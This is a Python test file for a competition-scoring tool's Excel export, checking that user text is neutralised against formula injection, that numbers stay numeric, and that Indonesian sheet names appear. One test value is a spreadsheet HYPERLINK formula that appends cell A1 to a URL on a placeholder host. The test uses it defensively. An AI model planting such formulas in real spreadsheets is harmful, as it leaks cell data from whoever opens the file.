"""The results workbook: its sheets, numbers kept as numbers, user text never a formula."""

import io

from openpyxl import load_workbook

from scoring.entries import Entries, Entry
from scoring.export import results_workbook
from scoring.pipeline import score
from tests.helpers import marks, single_leaf

HOSTILE = '=HYPERLINK("http://example.invalid/?"&A1,"klik")'


def test_user_text_is_neutralised_and_numbers_stay_numbers() -> None:
    entries = Entries((Entry("e1", HOSTILE, "A"), Entry("e2", "+62 812", "A"),
                       Entry("e3", "Kelurahan Medono", "A")))
    scores = marks(entries, {("e1", "@judge"): {"c": 80}, ("e2", "@judge"): {"c": 70},
                             ("e3", "@judge"): {"c": 60}})
    rubric = single_leaf(awards={"places": [{"name": "-Juara I-"}]})
    result = score(rubric, entries, scores)
    workbook = load_workbook(io.BytesIO(results_workbook(result, "en")))
    ranking = list(workbook["A"].iter_rows(values_only=True))
    assert ranking[0][:5] == ("Rank", "Tied", "Id", "Entry", "Total")
    assert ranking[1][3] == "'" + HOSTILE and ranking[1][4] == 80.0
    assert ranking[2][3] == "'+62 812"
    assert ranking[3][3] == "Kelurahan Medono"
    award_column = ranking[0].index("Award")
    assert ranking[1][award_column] == "'-Juara I-"
    scores_sheet = list(workbook["Judges' scores"].iter_rows(values_only=True))
    assert scores_sheet[1][2] == "'@judge" and scores_sheet[1][4] == 80.0
    # no cell anywhere holds a live formula
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            assert all(cell.data_type != "f" for cell in row)


def test_indonesian_headers_and_rubric_sheet() -> None:
    entries = Entries((Entry("e1", "Satu", "A"),))
    result = score(single_leaf(), entries, marks(entries, {("e1", "J"): {"c": 50}}))
    workbook = load_workbook(io.BytesIO(results_workbook(result)))
    assert workbook.sheetnames == ["A", "Nilai juri", "Catatan", "Rubrik"]
    rubric_rows = {row[0]: row[1] for row in workbook["Rubrik"].iter_rows(values_only=True)
                   if row and row[0]}
    assert rubric_rows["Sidik jari masukan"] == result.fingerprint
    assert rubric_rows["Sidik jari rubrik"] == result.rubric.fingerprint
